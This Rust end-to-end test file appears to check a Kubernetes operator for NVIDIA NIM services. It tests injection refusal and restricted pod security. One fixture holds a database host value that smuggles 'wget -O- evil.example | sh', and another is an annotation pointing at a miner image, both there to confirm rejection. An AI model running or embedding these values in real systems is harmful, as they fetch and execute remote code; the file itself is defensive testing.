//! Images set by annotation, tokens sent to a model's endpoint, pods in a restricted namespace.

use std::time::Duration;

use e2e::cluster::gpu::H100;
use e2e::failure::Failure;
use e2e::objects;
use e2e::site::Site;
use serde_json::{Value, json};

/// The operator does what an object says within this time.
const SOON: Duration = Duration::from_mins(1);

/// A NemoGuardrail whose database is at this host.
fn guardrail(name: &str, host: &str) -> Value {
    json!({
        "apiVersion": "apps.nvidia.com/v1alpha1", "kind": "NemoGuardrail",
        "metadata": {
            "name": name, "namespace": "default",
            "annotations": {"nimfleet.io/wait-for-postgres-image": "evil.example/miner:1"},
        },
        "spec": {
            "image": {"repository": "nvcr.io/nvidia/nemo-microservices/guardrails", "tag": "25.10"},
            "expose": {"service": {"port": 8000}},
            "databaseConfig": {"host": host, "databaseName": "rails", "credentials": {"user": "u", "secretName": "pg"}},
        },
    })
}

#[tokio::test]
async fn neither_an_annotation_nor_a_host_decides_what_runs_before_a_microservice() -> Result<(), Failure> {
    let site = Site::new().cpu_nodes(1).start().await?;
    let cluster = site.cluster();
    let password = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "pg", "namespace": "default"},
        "stringData": {"password": "word"}});
    objects::apply(cluster, &password.to_string()).await?;
    objects::apply(cluster, &guardrail("sound", "pg.default.svc").to_string()).await?;
    objects::apply(cluster, &guardrail("hostile", "pg 5432; wget -O- evil.example | sh #").to_string())
        .await?;

    let deployment = site
        .eventually("the sound one is made", SOON, || objects::get(cluster, "Deployment", "default", "sound"))
        .await?;
    let wait = &deployment["spec"]["template"]["spec"]["initContainers"][0];
    assert_eq!(wait["name"], "wait-for-postgres");
    assert_eq!(wait["image"], spoke::operator::WAIT_FOR_POSTGRES_IMAGE, "the image is the chart's to name");
    assert!(
        !wait["command"].to_string().contains("pg.default"),
        "the script has no text of the spec: {wait}"
    );
    assert_eq!(wait["env"][0], json!({"name": "DATABASE_HOST", "value": "pg.default.svc"}));

    let refused = site
        .eventually("the hostile one is refused", SOON, || async {
            let found = objects::get(cluster, "NemoGuardrail", "default", "hostile").await?;
            objects::expect(&found, "Failed", "True")?;
            Ok(found)
        })
        .await?;
    let said = refused["status"]["conditions"].to_string();
    for word in ["InvalidSpec", "spec.databaseConfig.host", "evil.example", "DNS name"] {
        assert!(said.contains(word), "{word} is not in {said}");
    }
    objects::absent(cluster, "Deployment", "default", "hostile").await
}

/// A namespace whose label asks for restricted pods from the beginning.
const STRICT: &str = "strict";
/// One that comes to it.
const LATER: &str = "later";

/// A NIMService of one GPU, with more of its spec.
fn service(namespace: &str, name: &str, more: Value) -> String {
    let mut spec = json!({
        "image": {"repository": "nvcr.io/nim/meta/llama", "tag": "1.12.0"}, "authSecret": "ngc-api-secret",
        "replicas": 1, "storage": {"emptyDir": {}}, "resources": {"limits": {"nvidia.com/gpu": 1}},
        "expose": {"service": {"port": 8000}},
    });
    if let (Some(spec), Value::Object(more)) = (spec.as_object_mut(), more) {
        spec.extend(more);
    }
    json!({
        "apiVersion": "apps.nvidia.com/v1alpha1", "kind": "NIMService",
        "metadata": {"name": name, "namespace": namespace}, "spec": spec,
    })
    .to_string()
}

/// Asks the API server, which knows the standard best, whether a namespace takes a pod.
async fn is_taken(site: &Site, namespace: &str, spec: &Value) -> Result<(), Failure> {
    let mut spec = spec.clone();
    // Fields of an InferenceService beside those of its pod, and an account that is not looked for here.
    for field in [
        "minReplicas",
        "maxReplicas",
        "labels",
        "annotations",
        "deploymentStrategy",
        "scaleMetric",
        "scaleTarget",
        "serviceAccount",
        "serviceAccountName",
    ] {
        spec.as_object_mut().into_iter().for_each(|fields| drop(fields.remove(field)));
    }
    let pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "asked", "namespace": namespace}, "spec": spec});
    site.cluster().kubectl(&["create", "--dry-run=server", "-f", "-"], Some(&pod.to_string())).await?;
    Ok(())
}

async fn restrict(site: &Site, namespace: &str) -> Result<(), Failure> {
    let label = "pod-security.kubernetes.io/enforce=restricted";
    site.cluster().kubectl(&["label", "namespace", namespace, label], None).await?;
    Ok(())
}

#[tokio::test]
async fn a_restricted_namespace_takes_every_new_pod_and_its_label_restarts_none() -> Result<(), Failure> {
    let kinds = ["LeaderWorkerSet", "InferenceService", "HTTPRoute", "InferencePool"];
    let site = Site::new().gpus(H100, 8, 2).with(&kinds).start().await?;
    let cluster = site.cluster();
    for namespace in [STRICT, LATER] {
        cluster.kubectl(&["create", "namespace", namespace], None).await?;
    }
    restrict(&site, STRICT).await?;
    let password = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "pg", "namespace": STRICT},
        "stringData": {"password": "word"}});
    objects::apply(cluster, &password.to_string()).await?;
    objects::apply(cluster, &service(LATER, "old", json!({}))).await?;

    let router = json!({
        "hostDomainName": "models.example.com", "gateway": {"name": "gate", "namespace": "gateways"},
        "eppConfig": {
            "containerSpec": {"name": "epp", "image": {"repository": "registry.example/epp", "tag": "v1"}},
            "config": {"plugins": [{"type": "queue-scorer"}], "schedulingProfiles": [
                {"name": "default", "plugins": [{"pluginRef": "queue-scorer"}]},
            ]},
        },
    });
    let proxied = json!({"httpsProxy": "http://proxy:3128", "certConfigMap": "certificates"});
    let knative = json!({"serving.kserve.io/deploymentMode": "Knative"});
    let standard = json!({"serving.kserve.io/deploymentMode": "Standard"});
    let controller = json!({"control-plane": "kserve-controller-manager"});
    let kserve = json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "kserve-controller-manager", "namespace": "kserve", "labels": controller},
        "spec": {
            "replicas": 0, "selector": {"matchLabels": controller},
            "template": {"metadata": {"labels": controller}, "spec": {"containers": [{"name": "manager", "image": "k"}]}},
        },
    });
    objects::apply(cluster, &kserve.to_string()).await?;
    let over_nodes =
        json!({"multiNode": {"parallelism": {"pipeline": 2, "tensor": 8}, "mpi": {"mpiStartTimeout": 300}}});
    for (name, more) in [
        ("alone", json!({"expose": {"service": {"port": 8000}, "router": router}, "proxy": proxied})),
        ("wide", over_nodes),
        ("raw", json!({"inferencePlatform": "kserve", "annotations": standard})),
        ("scaled", json!({"inferencePlatform": "kserve", "annotations": knative})),
        ("folder", json!({"storage": {"hostPath": "/data"}})),
    ] {
        objects::apply(cluster, &service(STRICT, name, more)).await?;
    }
    let mut rails = guardrail("rails", "pg.strict.svc");
    rails["metadata"]["namespace"] = json!(STRICT);
    objects::apply(cluster, &rails.to_string()).await?;
    let cache = json!({
        "apiVersion": "apps.nvidia.com/v1alpha1", "kind": "NIMCache", "metadata": {"name": "model", "namespace": STRICT},
        "spec": {
            "source": {"ngc": {"modelPuller": "nvcr.io/nim/meta/llama:1.8.3", "pullSecret": "s", "authSecret": "s",
                "model": {"profiles": ["all"]}}},
            "storage": {"pvc": {"create": true, "size": "50Gi", "volumeAccessMode": "ReadWriteOnce"}},
        },
    });
    objects::apply(cluster, &cache.to_string()).await?;

    let template = ["/spec/template/spec"];
    let predictor = ["/spec/predictor"];
    let group =
        ["/spec/leaderWorkerTemplate/leaderTemplate/spec", "/spec/leaderWorkerTemplate/workerTemplate/spec"];
    for (kind, name, pods) in [
        ("Deployment", "alone", &template[..]),
        ("Deployment", "alone-epp", &template[..]),
        ("Deployment", "rails", &template[..]),
        ("Job", "model-job", &template[..]),
        ("LeaderWorkerSet", "wide-lws", &group[..]),
        ("InferenceService", "raw", &predictor[..]),
        ("InferenceService", "scaled", &predictor[..]),
    ] {
        let made = site
            .eventually(&format!("{kind} {name} is made"), SOON * 2, || {
                objects::get(cluster, kind, STRICT, name)
            })
            .await?;
        for at in pods {
            is_taken(&site, STRICT, made.pointer(at).unwrap_or(&Value::Null)).await?;
        }
    }

    // What no form of the pods makes acceptable is told, with the remedy.
    site.eventually("the folder of a node is refused", SOON, || async {
        let found = objects::get(cluster, "NIMService", STRICT, "folder").await?;
        match objects::condition(&found, "Failed") {
            Some((status, reason, message)) if status == "True" && reason == "PodSecurityViolation" => {
                assert!(message.contains("hostPath") && message.contains("another namespace"), "{message}");
                Ok(())
            }
            other => Err(Failure::new(format!("Failed is {other:?}"))),
        }
    })
    .await?;
    objects::absent(cluster, "Deployment", STRICT, "folder").await?;
    later(&site).await
}

/// The label comes to a namespace in which a service runs: its pods stay until the user has others made.
async fn later(site: &Site) -> Result<(), Failure> {
    let cluster = site.cluster();
    let old = || objects::get(cluster, "Deployment", LATER, "old");
    let before = site.eventually("the old one is made", SOON, old).await?;
    is_taken(site, STRICT, &before["spec"]["template"]["spec"])
        .await
        .expect_err("its pods are not restricted");
    restrict(site, LATER).await?;
    objects::apply(cluster, &service(LATER, "old", json!({"replicas": 2}))).await?;
    let scaled = site
        .eventually("it is scaled", SOON, || async {
            let found = old().await?;
            if found["spec"]["replicas"] == 2 { Ok(found) } else { Err(Failure::new("it has one replica")) }
        })
        .await?;
    assert_eq!(scaled["spec"]["template"], before["spec"]["template"], "no pod is replaced");
    let image = json!({"repository": "nvcr.io/nim/meta/llama", "tag": "1.13.0"});
    objects::apply(cluster, &service(LATER, "old", json!({"image": image}))).await?;
    site.eventually("its new pods are restricted", SOON, || async {
        let found = old().await?;
        is_taken(site, STRICT, &found["spec"]["template"]["spec"]).await
    })
    .await
}
